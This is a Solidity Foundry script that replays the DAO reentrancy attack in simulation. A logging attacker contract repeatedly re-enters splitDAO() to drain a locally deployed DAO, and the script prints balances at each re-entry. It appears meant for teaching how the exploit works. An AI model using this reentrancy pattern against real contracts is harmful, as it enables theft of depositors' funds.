// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "forge-std/Script.sol";
import "./DAO.sol";
import "./Mallory.sol";

/// Mallory's re-entries made visible: logs the balances at every re-entry.
contract LoudMallory {
    DAO public immutable dao;
    uint256 public immutable maxReentries;
    uint256 public reentries;

    constructor(DAO dao_, uint256 maxReentries_) {
        dao = dao_;
        maxReentries = maxReentries_;
    }

    function attack() external payable {
        dao.deposit{value: msg.value}();
        console.log("Mallory deposits %d wei and splits", msg.value);
        dao.splitDAO();
    }

    receive() external payable {
        console.log("re-entry", reentries, "DAO balance", address(dao).balance);
        console.log("  Mallory balance", address(this).balance, "her DAO tokens", dao.balances(address(this)));
        if (reentries < maxReentries) {
            reentries += 1;
            dao.splitDAO();
        }
    }
}

/// Replays the DAO attack: honest investors deposit, Mallory attacks, balances are logged at
/// every re-entry and at the end. `mallory run contracts/dao/ReplayDAO.s.sol -vvv` shows the
/// call tree of the attack.
contract ReplayDAO is Script {
    function run() public {
        DAO dao = new DAO();
        address alice = address(0xA11CE);
        address bob = address(0xB0B);
        vm.deal(alice, 10 ether);
        vm.deal(bob, 10 ether);
        vm.prank(alice);
        dao.deposit{value: 10 ether}();
        vm.prank(bob);
        dao.deposit{value: 10 ether}();
        console.log("DAO holds", address(dao).balance, "tokens", dao.totalSupply());

        LoudMallory mallory = new LoudMallory(dao, 4);
        mallory.attack{value: 1 ether}();

        console.log("after the attack: DAO holds", address(dao).balance, "tokens", dao.totalSupply());
        console.log("Mallory holds", address(mallory).balance);
        if (address(dao).balance < dao.totalSupply()) console.log("the DAO owes more than it has");
    }
}
